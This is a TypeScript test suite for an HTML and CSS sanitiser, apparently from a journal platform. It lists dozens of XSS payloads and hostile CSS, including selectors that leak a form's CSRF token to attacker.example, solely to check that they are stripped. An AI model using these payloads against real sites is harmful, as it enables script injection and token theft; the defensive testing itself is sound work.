import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import postcss from 'postcss';
import { RICH_TEXT_TAGS, sanitizeRichText, sanitizeCss } from './sanitize.ts';

/** Decodes the entities sanitize-html may emit (numeric and the common named ones). */
function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#([0-9]+);?/g, (_m, d: string) => String.fromCodePoint(parseInt(d, 10)))
    .replace(/&(tab|newline|colon|lt|gt|quot|apos|amp);/gi, (_m, n: string) =>
      ({ tab: '\t', newline: '\n', colon: ':', lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' })[n.toLowerCase()]!,
    );
}

// Browsers drop these from URLs before looking at the scheme.
const squash = (s: string) => s.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();

const ALLOWED_TAGS = new Set(
  'p br h2 h3 h4 h5 h6 strong b em i u s sub sup blockquote ul ol li a img table thead tbody tr th td caption code pre hr span div abbr cite figure figcaption dl dt dd'.split(' '),
);

/** Everything the sanitiser must guarantee about any output, whatever the input. */
function assertSafe(input: string): string {
  const out = sanitizeRichText(input);
  const lower = out.toLowerCase();
  for (const tag of ['<script', '<iframe', '<svg', '<math', '<object', '<embed', '<base', '<meta', '<form', '<style', '<link', '<input', '<textarea']) {
    assert.ok(!lower.includes(tag), `${JSON.stringify(input)} -> ${JSON.stringify(out)} contains ${tag}`);
  }
  const decoded = squash(decodeEntities(out));
  for (const scheme of ['javascript:', 'vbscript:', 'data:text']) {
    assert.ok(!decoded.includes(scheme), `${JSON.stringify(input)} -> ${JSON.stringify(out)} contains ${scheme}`);
  }
  // Text "<" is always escaped in the output, so every literal "<…>" is a real tag.
  for (const [tag] of out.matchAll(/<[^>]*>/g)) {
    const name = /^<\/?([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase();
    assert.ok(name && ALLOWED_TAGS.has(name), `unexpected tag ${tag} from ${JSON.stringify(input)}`);
    // Quoted values are inert text ("&quot;" cannot end them), so look only at attribute names.
    const names = tag.replace(/"[^"]*"/g, '""');
    assert.doesNotMatch(names, /[\s/"']on[a-z]*\s*=/i, `event handler in ${tag}`);
    assert.doesNotMatch(names, /\s(?:style|class|id|name|xlink:href|formaction|action|srcset)\s*=/i, `forbidden attribute in ${tag}`);
    for (const [, attr, value] of tag.matchAll(/\s([a-z:-]+)="([^"]*)"/gi)) {
      if (attr === 'href' || attr === 'src') {
        const url = squash(decodeEntities(value!));
        assert.ok(/^(?:https?:|mailto:|\/|#|[^:]*$)/.test(url), `unsafe ${attr}=${value} in ${tag}`);
      }
    }
  }
  assert.equal(sanitizeRichText(out), out, `not idempotent for ${JSON.stringify(input)}`);
  return out;
}

const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC="x" onerror="alert(1)" ONERROR=alert(2) oNeRrOr=alert(3)>',
  '<img src=x onerror=alert(1)//',
  '<IMG LOWSRC="javascript:alert(1)"><IMG DYNSRC="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="javas&#x09;cript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/" target="_self" onmouseover="alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
  '<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<span style="behavior: url(xss.htc)">x</span>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script\ttype="text/javascript">alert(1)</script>',
  '<form action="https://evil.example/"><button>Go</button></form>',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<input type="image" src="javascript:alert(1)"><input onfocus=alert(1) autofocus>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<style>@import "https://evil.example/xss.css";</style>',
  '<style>li { list-style-image: url("javascript:alert(1)"); }</style><ul><li>x</li></ul>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<div><![CDATA[<]]><script>alert(1)</script></div>',
  '<!--<script>alert(1)</script>--><p>ok</p>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<img src="https://ok.example/a.png" alt="&quot; onerror=&quot;alert(1)">',
  '<a href="https://ok.example/" title=\'" onmouseover="alert(1)\'>x</a>',
  '<p id="location" class="x" name="getElementById">clobber</p><img name="cookie" src="/x.png">',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
  '<template><script>alert(1)</script></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<plaintext><script>alert(1)</script>',
];

describe('sanitizeRichText: XSS payloads', () => {
  test('has at least 25 payloads', () => assert.ok(XSS_PAYLOADS.length >= 25));
  for (const payload of XSS_PAYLOADS) {
    test(payload, () => {
      assertSafe(payload);
    });
  }

  test('script, style and textarea bodies do not survive as text', () => {
    assert.equal(sanitizeRichText('<p>a</p><script>alert(1)</script><style>p{color:red}</style><textarea>secret</textarea>'), '<p>a</p>');
  });

  test('an image without an allowed src is dropped entirely', () => {
    assert.equal(sanitizeRichText('<img src=x onerror=alert(1)>'), '');
    assert.equal(sanitizeRichText('<img src="//evil.example/x.png">'), '');
    assert.equal(sanitizeRichText('<img src="data:image/png;base64,AAAA">'), '');
  });

  test('link targets other than _blank are dropped; _blank gets a safe rel', () => {
    assert.equal(
      sanitizeRichText('<a href="/about" target="_top" rel="opener">x</a> <a href="#sec" target="_blank" rel="opener">y</a>'),
      '<a href="/about">x</a> <a href="#sec" target="_blank" rel="noopener noreferrer">y</a>',
    );
  });

  test('class, id and style are stripped (clobbering, overlays)', () => {
    assert.equal(sanitizeRichText('<div class="x" id="y" style="color:red"><span id="z">t</span></div>'), '<div><span>t</span></div>');
  });
});

describe('sanitizeRichText: event handlers on every allowed element', () => {
  // Generated from the allow-list itself: an element added to it is covered here without a new case.
  const HANDLERS = ['onclick', 'onerror', 'onmouseover', 'onfocus', 'onload', 'onanimationstart', 'onpointerenter', 'ONCLICK', 'OnMouseOver', 'onFocus'];
  const VOID = new Set(['br', 'hr', 'img', 'wbr', 'col', 'area', 'source', 'track']);
  /** Attributes an element needs to be kept at all (an img without a usable src is dropped). */
  const NEEDS: Record<string, string> = { img: ' src="/sm/theme/logo" alt="logo"', a: ' href="https://example.org/"' };
  const writings = (handler: string) => [`${handler}="alert(1)"`, `${handler}='alert(2)'`, `${handler}=alert(3)`, `\n${handler} = "alert(4)"`];

  for (const tag of RICH_TEXT_TAGS) {
    test(`<${tag}> keeps no event handler`, () => {
      for (const handler of HANDLERS) {
        for (const attribute of writings(handler)) {
          const input = VOID.has(tag) ? `<${tag}${NEEDS[tag] ?? ''} ${attribute}>` : `<${tag}${NEEDS[tag] ?? ''} ${attribute}>text</${tag}>`;
          const out = assertSafe(input);
          assert.match(out, new RegExp(`<${tag}[\\s>/]`), `<${tag}> itself is kept, so the check means something: ${JSON.stringify(input)} -> ${JSON.stringify(out)}`);
          assert.doesNotMatch(out, /\son[a-z]+\s*=/i, `${JSON.stringify(input)} -> ${JSON.stringify(out)}`);
          assert.doesNotMatch(out, /alert/, `${JSON.stringify(input)} -> ${JSON.stringify(out)}`);
        }
      }
    });
  }
});

describe('sanitizeRichText: ordinary content', () => {
  const kept = [
    '<p>See <a href="https://doi.org/10.1234/x" title="DOI">the article</a> &amp; <a href="mailto:editor@example.org">write to us</a>.</p>',
    '<ul><li>One</li><li>Two <em>2</em></li></ul><ol><li><strong>A</strong></li></ol>',
    '<table><caption>Fees</caption><thead><tr><th scope="col">Item</th><th scope="col">Fee</th></tr></thead><tbody><tr><td>APC</td><td colspan="2">0</td></tr></tbody></table>',
    '<h2>About</h2><h3>Scope</h3><h4>Focus</h4><h5>Aims</h5><h6>Notes</h6>',
    '<figure><img src="https://example.org/logo.png" alt="Journal logo" width="120" height="40" /><figcaption>Our logo</figcaption></figure>',
    '<p><img src="/files/cover.jpg" alt="Cover" /></p>',
    '<blockquote><p>Quoted <cite>Source</cite></p></blockquote><pre><code>x &lt; y</code></pre><hr />',
    '<p>H<sub>2</sub>O, E=mc<sup>2</sup>, <abbr title="Digital Object Identifier">DOI</abbr>, <u>u</u> <s>s</s> <b>b</b> <i>i</i><br />next</p>',
    '<dl><dt>Term</dt><dd>Definition</dd></dl>',
    '<p><a href="https://example.org/" target="_blank" rel="noopener noreferrer" hreflang="en">new tab</a> <a href="#top">top</a> <a href="/issues">issues</a></p>',
  ];
  for (const html of kept) {
    test(html.slice(0, 60), () => {
      assert.equal(sanitizeRichText(html), html);
      assertSafe(html);
    });
  }

  test('the dropped h1 keeps its text', () => {
    assert.equal(sanitizeRichText('<h1>Title</h1>'), 'Title');
  });

  test('unclosed markup comes out well-formed and stable', () => {
    const out = sanitizeRichText('<p><strong>bold <em>both</p><ul><li>one<li>two');
    assert.equal(sanitizeRichText(out), out);
    for (const tag of ['strong', 'em', 'p', 'ul', 'li']) {
      assert.equal(out.split(`<${tag}>`).length, out.split(`</${tag}>`).length, `${tag} balanced in ${out}`);
    }
  });
});

/** Parses and re-serialises with uniform whitespace, so equal meaning compares equal. */
function normalizeCss(css: string): string {
  const root = postcss.parse(css);
  root.walk((node) => {
    node.raws = {};
  });
  return root.toString().replace(/\s+/g, ' ').replace(/\s*([{};:,])\s*/g, '$1').replace(/;}/g, '}').trim();
}

describe('sanitizeCss', () => {
  test('ordinary CSS is kept with the same meaning', () => {
    const css = ':root { --primary: #123456 } .site-header { background: #fff; } @media (max-width: 40em) { nav { display: none } }';
    const result = sanitizeCss(css);
    assert.deepEqual(result.removed, []);
    assert.equal(normalizeCss(result.css), normalizeCss(css));
  });

  test('the journal’s own images, data: images, local fonts, harmless selectors and at-rules are kept', () => {
    const css = [
      '.a { background: url("/sm/theme/homepage?v=3") no-repeat, url(/sm/theme/logo); }',
      '.b { background-image: url(data:image/png;base64,iVBORw0KGgo=); list-style-image: url( \'/sm/theme/favicon?v=12\' ); }',
      '.c { background: image-set("/sm/theme/logo?v=1" 1x, url(data:image/webp;base64,UklGRg==) 2x); }',
      '@font-face { font-family: "Body"; src: local("Source Serif 4"), local(Georgia); }',
      '@supports (display: grid) { .c { display: grid; grid-template-columns: repeat(2, 1fr); } }',
      '@keyframes fade { from { opacity: 0 } to { opacity: 1 } }',
      'html { scroll-behavior: smooth; }',
      'a[hreflang]::after, abbr[title]::after { content: "\\2197" attr(title); }',
      ':lang(en) q, [lang|="en"] q, [dir=rtl] p, input[type="search" i], li:nth-child(2n+1):not(.x) { quotes: "“" "”"; }',
    ].join('\n');
    const result = sanitizeCss(css);
    assert.deepEqual(result.removed, []);
    assert.equal(normalizeCss(result.css), normalizeCss(css));
  });

  const dangerous: Array<[string, string, RegExp]> = [
    ['@import', '@import url(http://evil); .a { color: red }', /@import/],
    ['@import string', '@import "https://evil.example/x.css"; .a { color: red }', /@import/],
    ['@charset', '@charset "UTF-7"; .a { color: red }', /@charset/],
    ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg); .a { color: red }', /@namespace/],
    ['expression()', '.a { color: red; width: expression(alert(1)); }', /expression/],
    ['expression with comment', '.a { color: red; width: expr/**/ession(alert(1)); }', /width/],
    ['url(javascript:)', '.a { color: red; background: url(javascript:alert(1)); }', /background: url\(javascript:alert\(1\)\)/],
    ['quoted url(javascript:)', '.a { color: red; background: url("JavaScript:alert(1)"); }', /background/],
    ['escaped \\6a avascript', '.a { color: red; background: url(\\6a avascript:alert(1)); }', /background/],
    ['escaped j\\ava', '.a { color: red; background: url("j\\ava\\script:alert(1)"); }', /background/],
    ['escaped \\65 xpression', '.a { color: red; width: \\65 xpression(alert(1)); }', /width/],
    ['vbscript:', '.a { color: red; background: url(vbscript:msgbox(1)); }', /background/],
    ['-moz-binding', '.a { color: red; -moz-binding: url("https://evil.example/xss.xml#xss"); }', /-moz-binding/],
    ['behavior:', '.a { color: red; behavior: url(xss.htc); }', /behavior/],
    ['escaped behavior', '.a { color: red; beh\\61vior: url(xss.htc); }', /vior/],
    ['data:image/svg+xml', '.a { color: red; background: url("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"); }', /svg\+xml/],
    ['data:text/html', '.a { color: red; background: url(data:text/html,hi); }', /data:text/],
    ['http url', '.a { color: red; background: url(http://tracker.example/p.gif); }', /http:\/\/tracker/],
    ['protocol-relative url', '.a { color: red; background: url(//tracker.example/p.gif); }', /tracker/],
    ['image-set with javascript', '.a { color: red; background: image-set("javascript:alert(1)" 1x); }', /image-set/],
    ['@font-face over http', '@font-face { font-family: X; src: url(http://evil.example/x.woff); } .a { color: red }', /font-face/],
  ];
  for (const [name, css, reason] of dangerous) {
    test(`removes ${name}`, () => {
      const result = sanitizeCss(css);
      assert.ok(result.removed.some((r) => reason.test(r)), `removed ${JSON.stringify(result.removed)} should mention ${reason}`);
      const lower = result.css.toLowerCase();
      for (const word of ['@import', '@charset', '@namespace', 'expression', 'javascript', 'vbscript', 'binding', 'behavior', 'svg+xml', 'http:', '//tracker', '<']) {
        assert.ok(!lower.includes(word), `${JSON.stringify(result.css)} contains ${word}`);
      }
      assert.match(result.css, /color: red/, 'the harmless rest is kept');
      assert.equal(sanitizeCss(result.css).css, result.css, 'stable when sanitised again');
    });
  }

  // Issue 15, finding 12: a manager's CSS could read a page's form token and report it, or count downloads.
  const LOADS_OR_READS = ['value', ':has', 'https:', 'download', 'attacker', 'files/', 'href^', 'image-set', 'src('];
  // A custom property may hold any string; only its use in something that loads is refused.
  const THROUGH_VAR = ['image-set', 'src(', 'var(--u)'];
  const readingOrCounting: Array<[string, string, string[]?]> = [
    ['the form token by :has() and [value^=]', 'form:has(input[name="_csrf"][value^="b"]) { background: url(https://attacker.example/b) }'],
    ['the form token by [value^=] alone', 'input[name="_csrf"][value^="b"] { background: url(/sm/theme/logo?v=98) }'],
    ['[value$=] inside :is()', ':is(input[value$="z"]) ~ button { background: url(/sm/theme/logo?v=26) }'],
    ['[value*=] with a case flag, written VALUE', 'input[VALUE*=q i] { outline: 1px solid }'],
    ['an escaped attribute name', 'input[v\\61lue^=a] { outline: 1px solid }'],
    ['a comment in the attribute test', 'input[value/**/^=a] { outline: 1px solid }'],
    ['a nested rule', 'form { color: red; & input[value^="a"] { outline: 1px solid } }'],
    ['[href^=], which can hold a token', 'a[href^="/user/email/confirm?token=a"] { outline: 1px solid }'],
    [':has() without an attribute test', 'body:has(.account-menu__admin) { outline: 1px solid }'],
    ['@scope with :has()', '@scope (form:has(input[value^=a])) { p { outline: 1px solid } }'],
    ['an external image', '.a { background: url(https://cdn.example/x.webp) }'],
    ['an external font', '@font-face { font-family: X; src: url("https://fonts.example/b.woff") format("woff"); }'],
    ['a galley download', '.a { background: url(/sm/article/download/1786/1) }'],
    ['a relative address', '.a { background: url(article/download/1786/1) }'],
    ['a path out of the theme', '.a { background: url(/sm/theme/logo/../../article/download/1786/1) }'],
    ['an escaped parenthesis', '.a { background: url(/sm/theme/logo\\)/../../article/download/1786/1) }'],
    ['a comment inside url()', '.a { background: url(/sm/theme/lo/*/../../../article/download/1786/1/*/go) }'],
    ['a site path', '.a { background: url("/files/bg.png") }'],
    ['image-set through var()', ':root { --u: "https://attacker.example/a"; } .a { background: image-set(var(--u) 1x) }', THROUGH_VAR],
    ['src() through var()', ':root { --u: "/sm/article/download/1786/1"; } .a { background: src(var(--u)) }', THROUGH_VAR],
  ];
  for (const [name, css, words = LOADS_OR_READS] of readingOrCounting) {
    test(`removes what could read a page or count a download: ${name}`, () => {
      const result = sanitizeCss(`${css}\n.kept { color: red }`);
      assert.ok(result.removed.length > 0, `nothing removed from ${css}`);
      for (const word of words) {
        assert.ok(!result.css.toLowerCase().includes(word), `${JSON.stringify(result.css)} contains ${word}`);
      }
      assert.match(result.css, /\.kept \{ color: red \}/, 'the harmless rest is kept');
      assert.equal(sanitizeCss(result.css).css, result.css, 'stable when sanitised again');
    });
  }

  test('</style><script> never appears in the output', () => {
    for (const css of [
      '.a { content: "</style><script>alert(1)</script>"; color: red }',
      '.a { color: red } /* </style><script>alert(1)</script> */',
      '.a { font-family: "</style><script>alert(1)</script>"; color: red }',
      '.a[title="</style><script>alert(1)</script>"] { color: red } .b { color: red }',
    ]) {
      const result = sanitizeCss(css);
      assert.ok(!result.css.includes('<'), `${JSON.stringify(css)} -> ${JSON.stringify(result.css)}`);
      assert.match(result.css, /color: red/);
    }
    assert.ok(sanitizeCss('.a { content: "</style>"; }').removed.length > 0);
  });

  test('unparseable CSS is reported, not thrown', () => {
    for (const css of ['a { color: red', 'a { b: }}} {', '.a { background: url(https://x.example/a.png; }']) {
      const result = sanitizeCss(css);
      assert.equal(result.css, '');
      assert.equal(result.removed.length, 1);
      assert.match(result.removed[0]!, /^unparseable CSS: /);
    }
  });

  test('empty input is fine', () => {
    assert.deepEqual(sanitizeCss(''), { css: '', removed: [] });
  });
});
